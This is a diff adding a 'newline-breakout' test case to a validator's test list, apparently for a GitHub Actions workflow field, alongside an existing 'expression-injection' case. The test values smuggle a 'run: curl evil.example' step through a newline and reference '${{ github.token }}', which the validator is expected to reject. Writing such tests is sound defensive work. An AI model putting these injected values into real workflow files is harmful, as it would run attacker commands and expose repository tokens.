@@ -122,6 +122,12 @@ CASES = [
         "must not contain quotes",
     ),
     (
+        "newline-breakout",
+        replace("do-not-merge", '"do-not-merge\\n    run: curl evil.example"'),
+        "blocking_label",
+        "control characters such as newlines",
+    ),
+    (
         "expression-injection",
         replace("do-not-merge", '"${{ github.token }}"'),
         "blocking_label",
